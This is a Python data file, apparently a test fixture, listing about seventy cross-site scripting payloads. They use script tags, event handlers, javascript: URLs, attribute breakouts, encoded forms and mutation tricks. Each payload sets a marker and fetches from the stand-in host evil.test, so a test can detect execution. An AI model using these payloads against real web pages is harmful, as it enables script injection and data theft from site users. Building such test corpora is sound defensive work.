"""Texts that run a script when a page takes one of them for markup, a link or a style.

Each sets `xss` in the page and calls another server, so a test sees either. Pure data.
"""

from __future__ import annotations

MARK = "xssmark"
_DO = f"top.{MARK}=1,fetch('http://evil.test/{MARK}')"
_EVENTS = (
    "onerror onload onfocus onblur onclick onmouseover onmouseenter onpointerover onanimationstart"
    " ontoggle onbegin onscroll onpageshow onhashchange onresize onwheel oninput onsubmit"
)
_TAGS = "img svg body video audio iframe object embed details marquee input select textarea form a"
_WHOLE = (
    "<script>{do}</script>",
    "</script><script>{do}</script>",
    "</title><script>{do}</script>",
    "</textarea><script>{do}</script>",
    "</pre><script>{do}</script>",
    "--><script>{do}</script>",
    "]]><script>{do}</script>",
    "<ScRiPt>{do}</sCrIpT>",
    "<script/x>{do}</script>",
    "<<script>{do}//<</script>",
    "<script src=http://evil.test/a.js></script>",
    "<script src=data:text/javascript,{do}></script>",
    "<svg><script>{do}</script></svg>",
    "<svg><animate onbegin={do} attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={do}>",
    "<noscript><p title='</noscript><img src=x onerror={do}>'>",
    "<template><script>{do}</script></template>",
    "<iframe srcdoc='<script>{do}</script>'></iframe>",
    "<iframe src=javascript:{do}></iframe>",
    "<a href=javascript:{do} autofocus>x</a>",
    "<a href='java\tscript:{do}'>x</a>",
    "<a href=' javascript:{do}'>x</a>",
    "<form action=javascript:{do}><input type=submit></form>",
    "<button formaction=javascript:{do}>x</button>",
    "<object data=javascript:{do}></object>",
    "<embed src=javascript:{do}>",
    "<base href=http://evil.test/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{do}'>",
    "<link rel=stylesheet href=http://evil.test/a.css>",
    "<link rel=preconnect href=http://evil.test/>",
    "<link rel=prefetch href=http://evil.test/>",
    "<style>@import url(http://evil.test/a.css)</style>",
    "<div style=background:url(http://evil.test/a.png)>x</div>",
    "<img src=http://evil.test/a.png>",
    "<video poster=http://evil.test/a.png><source src=http://evil.test/a.mp4></video>",
    "<input autofocus onfocus={do}>",
    "javascript:{do}",
    "data:text/html,<script>{do}</script>",
    '" autofocus onfocus={do} x="',
    "' autofocus onfocus={do} x='",
    "` onmouseover={do}",
    "{{{{ {do} }}}}",
    "{{% raw %}}<script>{do}</script>",
    "${{{do}}}",
    "&lt;script&gt;{do}&lt;/script&gt;",
    "%3Cscript%3E{do}%3C/script%3E",
    "\\u003cscript\\u003e{do}\\u003c/script\\u003e",
    "\N{RIGHT-TO-LEFT OVERRIDE}<script>{do}</script>\N{POP DIRECTIONAL FORMATTING} 采集",
)
#: Every text is another one.
HOSTILE_TEXTS = (
    *(text.format(do=_DO) for text in _WHOLE),
    *(
        f'"><{tag} src=x {event}={_DO}>'
        for tag, event in zip(_TAGS.split(), _EVENTS.split(), strict=False)
    ),
)
